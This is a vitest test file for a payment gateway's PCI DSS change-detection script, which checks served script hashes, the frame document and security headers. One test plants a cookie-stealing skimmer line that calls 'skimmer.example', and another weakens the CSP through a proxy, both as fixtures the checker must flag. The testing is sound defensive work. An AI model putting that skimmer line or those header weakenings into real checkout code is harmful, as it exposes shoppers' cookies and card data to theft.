import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { appendFileSync, copyFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterEach, describe, expect, it } from 'vitest';
import type { AssetManifest } from './assets';
import { startSandbox, type Sandbox } from './server';
import { MERCHANT, createSession, makeAssetsDir } from './test-helpers';

// `scripts/check-assets.mjs`, the PCI DSS 11.6.1 change-detection check, run as a merchant's
// scheduled job would: a child process against a real gateway.

const ROOT = fileURLToPath(new URL('../../..', import.meta.url));

/** Runs the check; resolves its exit code and output. Asynchronous: the gateway runs in this process. */
function check(args: string[]): Promise<{ code: number | null; out: string; err: string }> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, ['scripts/check-assets.mjs', ...args], { cwd: ROOT });
    let out = '';
    let err = '';
    child.stdout.on('data', (chunk: Buffer) => (out += chunk.toString()));
    child.stderr.on('data', (chunk: Buffer) => (err += chunk.toString()));
    child.on('error', reject);
    child.on('close', (code) => resolve({ code, out, err }));
  });
}

const cleanup: (() => Promise<void> | void)[] = [];
afterEach(async () => {
  for (const step of cleanup.splice(0).reverse()) await step();
});

/** A temp folder, removed after the test. */
function tempDir(): string {
  const dir = mkdtempSync(join(tmpdir(), 'cs-check-'));
  cleanup.push(() => rmSync(dir, { recursive: true, force: true }));
  return dir;
}

/**
 * A test assets folder and a copy of its manifest taken before anything changes: the manifest the
 * merchant recorded when it reviewed the scripts.
 */
function assetsWithExpectedManifest(): { dir: string; expected: string } {
  const dir = makeAssetsDir();
  cleanup.push(() => rmSync(dir, { recursive: true, force: true }));
  const expected = join(tempDir(), 'expected-manifest.json');
  copyFileSync(join(dir, 'manifest.json'), expected);
  return { dir, expected };
}

async function gatewayOn(assetsDir: string): Promise<Sandbox> {
  const sb = await startSandbox({ port: 0, dataDir: null, assetsDir });
  cleanup.push(() => sb.close());
  return sb;
}

const sha384 = (text: string) => `sha384-${createHash('sha384').update(text).digest('base64')}`;

/** The arguments that make the check load the frame document too. */
const withFrame = (session: string) => ['--session', session, '--origin', MERCHANT];

// Each check is a Node child process: slower than the default 5 s when the machine is busy.
describe('scripts/check-assets.mjs', { timeout: 30_000 }, () => {
  it('exits 0 when the published assets and the frame document match the expected manifest', async () => {
    const { dir, expected } = assetsWithExpectedManifest();
    const sb = await gatewayOn(dir);
    const { payment_session_id: session } = await createSession(sb);
    const run = await check(['--gateway', sb.origin, '--manifest', expected, ...withFrame(session)]);
    expect(run.err).toBe('');
    expect(run.out).toContain('OK: published assets and the frame document match');
    expect(run.code).toBe(0);
    // Without a session it checks the published assets alone.
    expect((await check(['--gateway', sb.origin, '--manifest', expected])).code).toBe(0);
  });

  it('exits 1 naming the asset whose served bytes changed on disk before the gateway started', async () => {
    const { dir, expected } = assetsWithExpectedManifest();
    appendFileSync(join(dir, 'cards-session.min.js'), '\n;fetch("https://skimmer.example/?c="+document.cookie)');
    const sb = await gatewayOn(dir);
    const run = await check(['--gateway', sb.origin, '--manifest', expected]);
    expect(run.code).toBe(1);
    expect(run.out).toContain('1 difference');
    expect(run.out).toMatch(
      /- cards-session\.min\.js: served bytes hash to sha384-\S+, expected sha384-\S+ \(http:\/\/localhost:\d+\/assets\/0\.0\.0-test\/cards-session\.min\.js\)/,
    );
    expect(run.out).not.toContain('frame.js');
  });

  it('exits 1 when the gateway publishes (and the frame document carries) a hash the merchant never reviewed', async () => {
    const { dir, expected } = assetsWithExpectedManifest();
    const swapped = '/* another frame script */';
    writeFileSync(join(dir, 'frame.js'), swapped);
    const manifest = JSON.parse(readFileSync(join(dir, 'manifest.json'), 'utf8')) as AssetManifest;
    const reviewed = manifest.assets['frame.js']?.integrity;
    manifest.assets['frame.js'] = { file: 'frame.js', integrity: sha384(swapped), contentType: 'text/javascript' };
    writeFileSync(join(dir, 'manifest.json'), JSON.stringify(manifest));
    const sb = await gatewayOn(dir);
    const { payment_session_id: session } = await createSession(sb);
    const run = await check(['--gateway', sb.origin, '--manifest', expected, ...withFrame(session)]);
    expect(run.code).toBe(1);
    expect(run.out).toContain(`- frame.js: published integrity ${sha384(swapped)}, expected ${reviewed}`);
    expect(run.out).toContain('- frame.js: served bytes hash to');
    expect(run.out).toContain(
      `- frame: <script src="/assets/0.0.0-test/frame.js"> integrity ${sha384(swapped)}, expected ${reviewed}`,
    );
    expect(run.out).not.toContain('cards-session.min.js');
  });

  it('exits 1 listing each frame header that weakened', async () => {
    const { dir, expected } = assetsWithExpectedManifest();
    const sb = await gatewayOn(dir);
    const { payment_session_id: session } = await createSession(sb);
    // A proxy in front of the gateway, standing in for a misconfigured CDN or edge rule.
    const proxy: Server = createServer((req, res) => {
      const upstream = new URL(req.url ?? '/', sb.origin);
      request(upstream, { method: req.method, headers: { ...req.headers, host: upstream.host } }, (answer) => {
        const headers = { ...answer.headers };
        if (upstream.pathname === '/v1/frames/cvn') {
          headers['content-security-policy'] = String(headers['content-security-policy'])
            .replace(/; require-trusted-types-for [^;]*/, '')
            .replace(/frame-ancestors [^;]*/, 'frame-ancestors *')
            .replace("script-src 'self'", "script-src 'self' 'unsafe-inline'");
          headers['referrer-policy'] = 'strict-origin-when-cross-origin';
          headers['x-frame-options'] = 'SAMEORIGIN';
          delete headers['cross-origin-resource-policy'];
        }
        res.writeHead(answer.statusCode ?? 502, headers);
        answer.pipe(res);
      })
        .on('error', () => res.writeHead(502).end())
        .end();
    });
    await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
    cleanup.push(
      () =>
        new Promise<void>((resolve) => {
          proxy.closeAllConnections();
          proxy.close(() => resolve());
        }),
    );
    const gateway = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`;
    const run = await check(['--gateway', gateway, '--manifest', expected, '--session', session, '--origin', MERCHANT]);
    expect(run.code).toBe(1);
    const listed = run.out
      .split('\n')
      .filter((line) => line.startsWith('  - '))
      .sort();
    expect(listed).toEqual(
      [
        "  - frame: CSP script-src 'self' 'unsafe-inline', expected 'self'",
        `  - frame: CSP frame-ancestors *, expected ${MERCHANT}`,
        "  - frame: CSP has no require-trusted-types-for (expected require-trusted-types-for 'script')",
        '  - frame: referrer-policy strict-origin-when-cross-origin, expected no-referrer',
        '  - frame: cross-origin-resource-policy missing, expected cross-origin',
        '  - frame: X-Frame-Options SAMEORIGIN present (frame-ancestors decides)',
      ].sort(),
    );
  });

  it.each([
    ['no --manifest', ['--gateway', 'http://localhost:4400'], '--manifest is required'],
    ['no --gateway', ['--manifest', 'x.json'], '--gateway is required'],
    ['a gateway that is no origin', ['--gateway', 'localhost:4400/x', '--manifest', 'x.json'], '--gateway: expected'],
    [
      '--session without --origin',
      ['--gateway', 'http://localhost:4400', '--manifest', 'x.json', '--session', 'ps-1'],
      '--session and --origin go together',
    ],
    [
      'a manifest that cannot be read',
      ['--gateway', 'http://localhost:4400', '--manifest', 'does/not/exist.json'],
      '--manifest: cannot read',
    ],
    ['an unknown option', ['--gateway', 'http://localhost:4400', '--nope'], "Unknown option '--nope'"],
  ])('exits 2 on a usage error: %s', async (_, args, message) => {
    const run = await check(args);
    expect(run.code).toBe(2);
    expect(run.err).toContain(message);
    expect(run.err).toContain('Usage: node scripts/check-assets.mjs');
    expect(run.out).toBe('');
  });
});
